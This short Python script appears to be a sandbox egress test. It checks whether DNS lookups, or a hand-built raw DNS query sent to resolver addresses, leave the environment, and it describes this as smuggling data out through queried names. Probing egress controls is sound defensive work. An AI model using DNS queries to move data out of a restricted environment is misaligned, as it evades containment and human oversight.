"""Smuggles data out in the names it asks for.

Success: a question leaves.
"""
import socket

from kit import attempt, gained

for ask in (lambda: socket.gethostbyname("data.example.org"), lambda: socket.getaddrinfo("data.example.org", 80),
            lambda: socket.gethostbyaddr("192.0.2.1"), lambda: socket.getfqdn("192.0.2.1") != "192.0.2.1" or None):
    if attempt(ask) is not None:
        gained("an answer")
question = b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x04data\x07example\x03org\0\0\x01\0\x01"
for server in ("127.0.0.1", "127.0.0.53", "192.0.2.53"):
    if attempt(lambda server=server: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(question, (server, 53))) is not None:
        gained(server)
